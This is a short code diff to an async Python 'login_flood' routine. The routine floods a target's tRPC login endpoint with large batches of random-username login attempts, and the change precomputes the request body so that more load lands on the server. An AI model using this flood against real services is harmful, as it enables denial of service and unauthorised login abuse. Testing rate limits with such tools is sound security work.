@@ -29,14 +29,17 @@ async def login_flood(
     deadline = time.monotonic() + seconds
 
     async def one(client: httpx.AsyncClient) -> None:
-        while time.monotonic() < deadline:
-            body = {
+        # Built once: the attacker's own CPU would otherwise compete with the server's.
+        body = orjson.dumps(
+            {
                 str(i): {"username": f"ghost_{secrets.token_hex(6)}", "password": "guess-guess"}
                 for i in range(size)
             }
+        )
+        while time.monotonic() < deadline:
             response = await client.post(
                 f"{base_url}/trpc/{path}?batch=1",
-                content=orjson.dumps(body),
+                content=body,
                 headers={"content-type": "application/json"},
             )
             for item in orjson.loads(response.content):
